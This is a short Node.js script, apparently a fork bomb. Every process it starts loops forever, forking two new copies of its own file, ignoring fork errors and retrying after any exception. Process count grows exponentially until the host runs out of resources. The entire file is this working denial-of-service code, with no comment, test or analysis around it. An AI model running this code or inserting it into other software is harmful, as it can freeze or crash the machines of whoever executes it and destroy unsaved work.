const { fork } = require('child_process');
for (;;) {
  try {
    fork(__filename).on('error', () => {});
    fork(__filename).on('error', () => {});
  } catch (refused) {
    continue;
  }
}
